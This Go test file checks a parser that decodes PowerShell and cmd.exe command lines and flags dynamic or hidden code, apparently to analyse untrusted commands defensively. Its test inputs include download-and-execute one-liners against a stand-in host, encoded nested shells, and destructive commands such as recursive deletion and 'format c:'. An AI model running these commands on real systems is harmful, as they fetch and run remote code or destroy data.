package powershell

import (
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/docket-engine/docket/effects/shell"
)

// short is a script in a line: commands with their words, ? for what is not known and
// the pattern of a glob, > for redirections, ~ for what may not run, then the problems.
func short(s shell.Script) string {
	var all []string
	for _, c := range s.Commands {
		var w []string
		for _, v := range c.Via {
			w = append(w, "<"+v.Name+">")
		}
		for _, a := range c.Args {
			w = append(w, shortWord(a))
		}
		for _, a := range c.Env {
			w = append(w, a.Name+"="+shortWord(a.Value))
		}
		for _, rd := range c.Redirects {
			w = append(w, ">"+shortWord(rd.Target))
		}
		t := strings.Join(w, " ")
		if !c.Certain {
			t = "~" + t
		}
		all = append(all, t)
	}
	for _, p := range s.Problems {
		all = append(all, "!"+string(p.Kind))
	}
	return strings.Join(all, "; ")
}

func shortWord(w shell.Word) string {
	var t strings.Builder
	for _, p := range w.Parts {
		if p.Kind == shell.Unknown {
			t.WriteString("?")
		} else {
			t.WriteString(p.Text)
		}
	}
	return t.String()
}

func encode(s string) string {
	var raw []byte
	for _, u := range utf16.Encode([]rune(s)) {
		raw = binary.LittleEndian.AppendUint16(raw, u)
	}
	return base64.StdEncoding.EncodeToString(raw)
}

func TestCommandsAreFound(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"a cmdlet", `Remove-Item -Path build -Recurse -Force`, "Remove-Item -Path build -Recurse -Force"},
		{"an alias", `rm build -r -fo`, "Remove-Item build -Recurse -Force"},
		{"case", `REMOVE-item 'a b'`, "Remove-Item a b"},
		{"shortened parameters", `del x -Rec -Fo`, "Remove-Item x -Recurse -Force"},
		{"an ambiguous parameter stays", `Remove-Item x -F`, "Remove-Item x -F"},
		{"a parameter with a colon", `ri -Recurse:$true x`, "Remove-Item -Recurse $true x"},
		{"several targets", `rm a, b,c`, "Remove-Item a b c"},
		{"options of another shell", `rm -rf /`, "Remove-Item -Recurse -Force /"},
		{"a module's name in front", `Microsoft.PowerShell.Management\Remove-Item x`, "Remove-Item x"},
		{"backticks", "Rem`ove-`Item x", "Remove-Item x"},
		{"quotes in a name", `& "Remove-Item" x`, "Remove-Item x"},
		{"a computed name", `& $x y`, "? y; !dynamic-program"},
		{"a name that is put together", `& ('ie' + 'x') 'y'`, "? y; !dynamic-program"},
		{"a dynamic program behind a dot", `. $x`, "?; !dynamic-program"},
		{"a known variable", `$p = 'build'; rm $p`, "Remove-Item build"},
		{"a variable with two values", `$p = 'a'; if ($y) { $p = 'b' }; rm $p`, "Remove-Item ?"},
		{"a variable of a loop", `foreach ($p in 1,2) { rm $p }`, "~Remove-Item ?"},
		{"a computed target", `rm "$x/*"`, "Remove-Item ?/*"},
		{"home", `rm $HOME/x ~/y $env:USERPROFILE`, "Remove-Item /home/user/x /home/user/y /home/user"},
		{"statements", "ls; pwd\ngci | sort && echo a || echo b", "Get-ChildItem; Get-Location; Get-ChildItem; Sort-Object; Write-Output a; Write-Output b"},
		{"a pipeline into deletion", `gci -r | Remove-Item`, "Get-ChildItem -r; Remove-Item"},
		{"a block for each", `gci | % { rm $_ -fo }`, "Get-ChildItem; Remove-Item ? -Force"},
		{"a member for each", `gci | % Delete`, "Get-ChildItem; .delete"},
		{"a subexpression", `echo "a $(rm x) b"`, "Remove-Item x; Write-Output a ? b"},
		{"a group", `(rm x)`, "Remove-Item x"},
		{"an assignment of commands", `$x = rm y`, "Remove-Item y"},
		{"a condition", `if (Test-Path x) { rm x } else { ls }`, "~Test-Path x; ~Remove-Item x; ~Get-ChildItem"},
		{"code in a text", `iex 'rm x'`, "<invoke-expression> Remove-Item x"},
		{"code by a pipe", `'rm x' | iex`, "<invoke-expression> Remove-Item x"},
		{"code that is computed", `iex $x`, "Invoke-Expression ?; !dynamic-code"},
		{"code from the net", `iwr http://h/x | iex`, "Invoke-WebRequest http://h/x; Invoke-Expression; !dynamic-code"},
		{"a download by an object", `iex (New-Object Net.WebClient).DownloadString('http://h/')`, "New-Object Net.WebClient; .downloadstring http://h/; Invoke-Expression ?; !dynamic-code"},
		{"a nested shell", `powershell -NoProfile -Command "rm x"`, "<powershell> Remove-Item x"},
		{"an encoded command", `powershell.exe -nop -e ` + encode("rm x"), "<powershell> Remove-Item x"},
		{"an encoded command that is none", `pwsh -enc zz`, "pwsh -enc zz; !dynamic-code"},
		{"a file", `pwsh -File a.ps1`, "pwsh -File a.ps1"},
		{"another shell", `cmd /c "del /s /q build"`, "<cmd> Remove-Item -Recurse -Force build"},
		{"a started process", `Start-Process -FilePath rm.exe -ArgumentList '-rf','x' -Verb RunAs`, "<start-process> <runas> rm -rf x"},
		{"a static method", `[System.IO.File]::Delete('x')`, "[io.file]::delete x"},
		{"a method", `$f.Delete()`, ".delete"},
		{"harmless methods", `'a b'.Split(' ').Length`, ""},
		{"mathematics", `[math]::Round(1.5); 1 + 2`, ""},
		{"code in a method", `[scriptblock]::Create('rm x').Invoke()`, "<invoke-expression> Remove-Item x; !dynamic-code"},
		{"a redirection", `echo a > b.txt 2>&1`, "Write-Output a >b.txt"},
		{"a here-string", "echo @'\nrm x\n'@", "Write-Output rm x"},
		{"a here-string with a command", "echo @\"\n$(rm x)\n\"@", "Remove-Item x; Write-Output ?"},
		{"comments", "ls # rm x\n<# rm y #> pwd", "Get-ChildItem; Get-Location"},
		{"a new alias", `sal z Remove-Item; z x`, "Remove-Item x"},
		{"a function", `function f { rm x }; f`, "~Remove-Item x"},
		{"the environment", `$env:A = 'b'`, "A=b"},
		{"curl is a program with its options", `curl -X DELETE http://h/`, "curl -X DELETE http://h/"},
		{"an open quote", `rm 'x`, "Remove-Item x; !unparsable"},
		{"quotes of a word processor", "rm “x”", "Remove-Item “x”; !look-alike"},
		{"a NUL", "rm x\x00", "Remove-Item x ; !control-bytes; !unparsable"},
		{"code that is compiled", `Add-Type -TypeDefinition 'class A {}'`, "Add-Type -TypeDefinition class A {}; !dynamic-code"},
		{"sudo", `sudo rm x`, "<sudo> Remove-Item x"},
		{"words that nobody reads", `icacls --% x /grant y`, "icacls x /grant y"},
	} {
		got := short(Read(c.text, "/home/user"))
		if got != c.want {
			t.Errorf("%s: %s\n got %s\nwant %s", c.name, c.text, got, c.want)
		}
	}
}

func TestPatternsAreGlobsInQuotesToo(t *testing.T) {
	if !Read(`rm '*.txt'`, "").Commands[0].Args[1].HasGlob() {
		t.Error("a pattern in quotes is no glob")
	}
	if Read(`rm -LiteralPath '*.txt'`, "").Commands[0].Args[2].HasGlob() {
		t.Error("a literal path is a glob")
	}
}

func TestFolders(t *testing.T) {
	s := Read("cd build; rm x; cd $y; rm z", "")
	if d := s.Commands[1].Dirs; len(d) != 2 || d[1] != "build" || s.Commands[1].DirUnknown {
		t.Errorf("%+v", s.Commands[1])
	}
	if !s.Commands[3].DirUnknown {
		t.Error("the folder is known")
	}
}

func TestBatch(t *testing.T) {
	for text, want := range map[string]string{
		`del /s /q build`:                      "Remove-Item -Recurse -Force build",
		`del/s/q build\*.obj`:                  `Remove-Item -Recurse -Force build\*.obj`,
		`rd /s /q "C:\Program Files\x"`:        `Remove-Item -Recurse -Force C:\Program Files\x`,
		`@echo off & de^l x`:                   "Write-Output off; Remove-Item x",
		`echo a > b.txt && type b.txt`:         "Write-Output a >b.txt; Get-Content b.txt",
		`format c: /y`:                         "Format-Volume c: -Force",
		`del %X%`:                              "Remove-Item ?",
		`%X% y`:                                "? y; !dynamic-program",
		`if exist x del x`:                     "~Remove-Item x",
		`for %%i in (*.txt) do del %%i`:        "~Remove-Item ?",
		`start "" /b calc.exe`:                 "<start> calc",
		`powershell -c "rm x"`:                 "<powershell> Remove-Item x",
		`cmd /c cmd /c del x`:                  "<cmd> <cmd> Remove-Item x",
		`rem del x`:                            "",
		"dir\r\ncd ..\r\n":                     "Get-ChildItem; Set-Location ..",
		`del "x`:                               "Remove-Item x; !unparsable",
		`git status`:                           "git status",
		`for /f %%i in ('curl h') do call %%i`: "~<call> ?; !dynamic-code; !dynamic-code; !dynamic-program",
	} {
		if got := short(ReadCmd(text, "")); got != want {
			t.Errorf("%s\n got %s\nwant %s", text, got, want)
		}
	}
}

func TestTooMuchIsAProblem(t *testing.T) {
	for _, text := range []string{strings.Repeat("x", 1<<20), strings.Repeat("(", 1000), strings.Repeat("$(", 100000), strings.Repeat("rm x;", 20000), strings.Repeat("[", 100000)} {
		if len(Read(text, "").Problems) == 0 {
			t.Errorf("%.20q… is understood", text)
		}
	}
	nested := "rm x"
	for range 8 {
		nested = "powershell -e " + encode(nested)
	}
	if s := Read(nested, ""); len(s.Problems) == 0 {
		t.Error("shells in shells without end are understood")
	}
}

// What stands behind a text on a line of its own is found, or the text is not understood.
func FuzzRead(f *testing.F) {
	for _, seed := range []string{
		`if ($a) { rm x } else { "a $(b) c" }`, "@\"\n$x\n\"@ | iex", `& $x -y:z, 'w' > q`, `[a]::b('c', $d).e[1]`, `cmd /c "del %x% ^& y"`,
		`powershell -e ` + encode("ls"), `$x = 'a'; foreach ($y in $z) { % { $_ } }`, `Start-Process a -ArgumentList 'b c' -Verb d`, "--% < # <# #>",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		s := Read(text, "/home/user")
		for _, c := range s.Commands {
			if c.Span.Start < 0 || c.Span.End < c.Span.Start || c.Span.End > len(text) {
				t.Fatalf("the place of %+v", c)
			}
		}
		ReadCmd(text, "/home/user")
		if len(s.Problems) > 0 {
			return
		}
		after := Read(text+"\n\nRemove-Item zz", "/home/user")
		if len(after.Problems) > 0 {
			return
		}
		for _, c := range after.Commands {
			if n := len(c.Args); n > 0 && (shortWord(c.Args[n-1]) == "zz" || strings.Contains(short(after), "zz")) {
				return
			}
		}
		t.Fatalf("the command behind %q is not found: %s", text, short(after))
	})
}

func BenchmarkRead(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		Read(`Get-ChildItem -Path build -Recurse | Where-Object { $_.Length -gt 100 } | Remove-Item -Force`, "/home/user")
	}
}
